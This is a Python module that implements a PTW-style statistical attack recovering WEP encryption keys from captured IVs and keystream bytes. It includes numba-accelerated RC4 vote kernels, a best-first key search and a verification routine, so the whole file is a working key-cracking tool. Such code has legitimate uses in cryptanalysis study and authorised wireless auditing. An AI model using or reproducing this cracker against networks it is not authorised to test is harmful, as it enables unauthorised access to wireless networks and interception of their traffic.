"""PTW-style statistical WEP key recovery.

Each sample is an IV plus the first keystream bytes of one frame.  Two
Klein-type vote tallies are used, one per search phase:

* :class:`KeyVoteTable` holds the classic PTW votes on the key-byte sums
  ``sigma_b = K[3] + ... + K[3+b]``, computed from the IV-only RC4 state.
  Tallies are additive, so tables built from disjoint sample sets merge.
  Whole keys are tried in order of total sigma-vote deficit.
* if that fails, a second search refines the votes: for a guessed key prefix the exact RC4
  state after ``3 + len(prefix)`` KSA steps is known, so the next key byte
  gets a sharper vote.  A best-first search expands prefixes in order of
  accumulated cost, where each byte costs a fixed offset minus its vote
  z-score.  The cost is a scaled negative log-likelihood ratio, so a strong
  byte can pay for a weak one elsewhere in the key.  The last key byte is
  brute-forced against the keystream samples.

The budget counts work, not time, so results are deterministic.  One unit
is a prefix expansion; sigma-space candidates and last-byte brute forces
are charged at fixed fractions of it.
"""

from __future__ import annotations

import heapq
import math
from dataclasses import dataclass, field
from typing import List, Optional, Sequence, Tuple

import numba
import numpy as np

from .wep import WepKey

KEYSTREAM_BYTES = 16
# work units per search phase; expansions cost more with longer keys
DEFAULT_BUDGET = {5: 20_000, 13: 8_000}
_P_WRONG = 1.0 / 256
# per-byte cost is OFFSET - z; tuned on seeded trials for each key length
_COST_OFFSET = {5: 3.0, 13: 3.57}
# whole-key candidates tried in sigma space per unit of budget
SIGMA_FACTOR = 5
# budget units charged for brute-forcing the last byte under one prefix
LEAF_WORK = 0.125


class InsufficientSamples(ValueError):
    pass


class NotFoundWithinBudget(LookupError):
    pass


# ------------------------------------------------------------------ kernels


@numba.njit(cache=True)
def _sigma_votes(ivs, kss, key_len, table):
    n = ivs.shape[0]
    S = np.empty(256, np.uint8)
    Si = np.empty(256, np.uint8)
    for s in range(n):
        for x in range(256):
            S[x] = x
        j = 0
        for i in range(3):
            j = (j + S[i] + ivs[s, i]) & 255
            t = S[i]
            S[i] = S[j]
            S[j] = t
        for x in range(256):
            Si[S[x]] = x
        acc = j
        for b in range(key_len):
            i = b + 3
            acc = (acc + S[i]) & 255
            table[b, (Si[(i - kss[s, i - 1]) & 255] - acc) & 255] += 1


@numba.njit(cache=True, boundscheck=False)
def _exact_votes(ivs, kss, prefix):
    n = ivs.shape[0]
    votes = np.zeros(256, np.int64)
    S = np.arange(256).astype(np.int32)
    L = prefix.shape[0]
    m = 3 + L
    K = np.empty(m, np.int32)
    for i in range(L):
        K[3 + i] = prefix[i]
    touched = np.empty(2 * m, np.int32)
    for s in range(n):
        K[0] = ivs[s, 0]
        K[1] = ivs[s, 1]
        K[2] = ivs[s, 2]
        j = 0
        for i in range(m):
            j = (j + S[i] + K[i]) & 255
            a = S[i]
            S[i] = S[j]
            S[j] = a
            touched[2 * i] = i
            touched[2 * i + 1] = j
        # inverse lookup: a moved value sits in one of the touched cells
        x = (m - kss[s, m - 1]) & 255
        p = x
        if S[x] != x:
            for q in range(2 * m):
                t = touched[q]
                if S[t] == x:
                    p = t
                    break
        votes[(p - j - S[m]) & 255] += 1
        for q in range(2 * m):
            t = touched[q]
            S[t] = t
    return votes


@numba.njit(cache=True)
def _matches(ivs, kss, key, count):
    kl = 3 + key.shape[0]
    K = np.empty(kl, np.uint8)
    S = np.empty(256, np.uint8)
    for s in range(count):
        for i in range(3):
            K[i] = ivs[s, i]
        for i in range(key.shape[0]):
            K[3 + i] = key[i]
        for x in range(256):
            S[x] = x
        j = 0
        for i in range(256):
            j = (j + S[i] + K[i % kl]) & 255
            t = S[i]
            S[i] = S[j]
            S[j] = t
        a = 0
        b = 0
        for q in range(kss.shape[1]):
            a = (a + 1) & 255
            b = (b + S[a]) & 255
            t = S[a]
            S[a] = S[b]
            S[b] = t
            if S[(S[a] + S[b]) & 255] != kss[s, q]:
                return False
    return True


@numba.njit(cache=True)
def _complete_last(ivs, kss, prefix, count):
    key = np.empty(prefix.shape[0] + 1, np.uint8)
    for i in range(prefix.shape[0]):
        key[i] = prefix[i]
    for v in range(256):
        key[prefix.shape[0]] = v
        if _matches(ivs, kss, key, count):
            return v
    return -1


# ------------------------------------------------------------- vote table


@dataclass
class KeyVoteTable:
    """Per key-byte-sum tallies; ``votes[b][v]`` counts evidence for sigma_b == v."""

    key_len: int
    votes: np.ndarray = field(default=None)

    def __post_init__(self):
        if self.votes is None:
            self.votes = np.zeros((self.key_len, 256), np.int64)
        if self.votes.shape != (self.key_len, 256):
            raise ValueError("vote table shape mismatch")

    @classmethod
    def from_samples(cls, samples, key_len: int) -> "KeyVoteTable":
        ivs, kss = _as_arrays(samples, key_len)
        table = cls(key_len)
        _sigma_votes(ivs, kss, key_len, table.votes)
        return table

    @property
    def samples(self) -> int:
        return int(self.votes[0].sum()) if self.key_len else 0

    def merge(self, other: "KeyVoteTable") -> "KeyVoteTable":
        if other.key_len != self.key_len:
            raise ValueError("cannot merge tables for different key lengths")
        return KeyVoteTable(self.key_len, self.votes + other.votes)

    __add__ = merge

    def ranked(self, position: int) -> List[int]:
        """Candidate sigma values for one position, most voted first."""
        return [int(v) for v in np.argsort(-self.votes[position], kind="stable")]

    def best_key(self) -> bytes:
        sig = [self.ranked(b)[0] for b in range(self.key_len)]
        return bytes((sig[b] - (sig[b - 1] if b else 0)) & 0xFF for b in range(self.key_len))


# ------------------------------------------------------------------ search


def _as_arrays(samples, key_len: int) -> Tuple[np.ndarray, np.ndarray]:
    rows = [(bytes(iv), bytes(ks)) for iv, ks in samples]
    if not rows:
        raise InsufficientSamples("no samples")
    need = key_len + 3
    width = min(KEYSTREAM_BYTES, min(len(ks) for _, ks in rows))
    if width < need:
        raise InsufficientSamples(f"keystream prefixes must be at least {need} bytes, shortest is {width}")
    if any(len(iv) != 3 for iv, _ in rows):
        raise ValueError("IVs are 3 bytes")
    # canonical order keeps the search independent of sample order
    rows.sort()
    ivs = np.frombuffer(b"".join(iv for iv, _ in rows), np.uint8).reshape(-1, 3).copy()
    kss = np.frombuffer(b"".join(ks[:width] for _, ks in rows), np.uint8).reshape(-1, width).copy()
    return ivs, kss


def verify_key(samples, key: bytes, count: int = 32) -> bool:
    ivs, kss = _as_arrays(samples, len(key))
    return bool(_matches(ivs, kss, np.frombuffer(bytes(key), np.uint8).copy(), min(count, len(ivs))))


def _sigma_search(ivs, kss, table: KeyVoteTable, sd: float, depth: int, limit: int, confirm: int) -> bytes:
    """Try whole keys in order of total sigma-vote deficit.

    An error in one sigma leaves the other sums intact, so near-miss keys
    are a few rank steps away.  Rank vectors are enumerated without
    duplicates by only raising positions at or after the last raised one.
    """
    kl = table.key_len
    order = [np.argsort(-table.votes[b], kind="stable")[:depth] for b in range(kl)]
    deficit = [(table.votes[b][order[b][0]] - table.votes[b][order[b]]) / sd for b in range(kl)]
    heap = [(0.0, (0,) * kl, 0)]
    key = np.empty(kl, np.uint8)
    tried = 0
    while heap and tried < limit:
        cost, ranks, low = heapq.heappop(heap)
        prev = 0
        for b in range(kl):
            sigma = int(order[b][ranks[b]])
            key[b] = (sigma - prev) & 0xFF
            prev = sigma
        tried += 1
        if _matches(ivs, kss, key, 1) and _matches(ivs, kss, key, confirm):
            return bytes(key)
        for b in range(low, kl):
            r = ranks[b] + 1
            if r < len(order[b]):
                heapq.heappush(heap, (cost + deficit[b][r] - deficit[b][r - 1], ranks[:b] + (r,) + ranks[b + 1 :], b))
    return b""


def ptw_crack(
    samples: Sequence[Tuple[bytes, bytes]],
    key_len: int,
    depth: int = 256,
    budget: Optional[int] = None,
) -> List[WepKey]:
    """Recover a WEP key from (IV, keystream prefix) samples.

    ``depth`` caps how many candidates per key byte are considered and
    ``budget`` caps the work of each search phase (default per key
    length from ``DEFAULT_BUDGET``).  Returns the verified candidates,
    best first.
    """
    if key_len not in (5, 13):
        raise ValueError("key_len must be 5 or 13")
    if not 1 <= depth <= 256:
        raise ValueError("depth must be in 1..256")
    if budget is None:
        budget = DEFAULT_BUDGET[key_len]
    ivs, kss = _as_arrays(samples, key_len)
    n = len(ivs)
    check = min(3, n)
    confirm = min(32, n)

    def complete(prefix) -> bytes:
        arr = np.array(tuple(prefix), dtype=np.uint8)
        last = _complete_last(ivs, kss, arr, check)
        if last < 0:
            return b""
        key = bytes(prefix) + bytes((last,))
        if _matches(ivs, kss, np.frombuffer(key, np.uint8).copy(), confirm):
            return key
        return b""

    table = KeyVoteTable(key_len)
    _sigma_votes(ivs, kss, key_len, table.votes)
    sd = math.sqrt(n * _P_WRONG * (1 - _P_WRONG))
    key = _sigma_search(ivs, kss, table, sd, depth, SIGMA_FACTOR * budget, confirm)
    if key:
        return [WepKey(key)]

    offset = _COST_OFFSET[key_len]
    heap: list = []
    counter = 0

    def expand(prefix: tuple, cost: float) -> None:
        nonlocal counter
        votes = _exact_votes(ivs, kss, np.array(prefix, dtype=np.uint8))
        order = np.argsort(-votes, kind="stable")[:depth]
        z = (votes - n * _P_WRONG) / sd
        counter += 1
        heapq.heappush(heap, (cost + offset - z[order[0]], counter, prefix, cost, order, z, 0))

    expand((), 0.0)
    work = 0.0
    while heap and work < budget:
        _, _, prefix, base, order, z, rank = heapq.heappop(heap)
        if rank + 1 < len(order):
            counter += 1
            nxt = order[rank + 1]
            heapq.heappush(heap, (base + offset - z[nxt], counter, prefix, base, order, z, rank + 1))
        node = prefix + (int(order[rank]),)
        if len(node) == key_len - 1:
            key = complete(node)
            if key:
                return [WepKey(key)]
            work += LEAF_WORK
        else:
            expand(node, base + offset - z[order[rank]])
            work += 1
    raise NotFoundWithinBudget(f"no key found within a budget of {budget}")
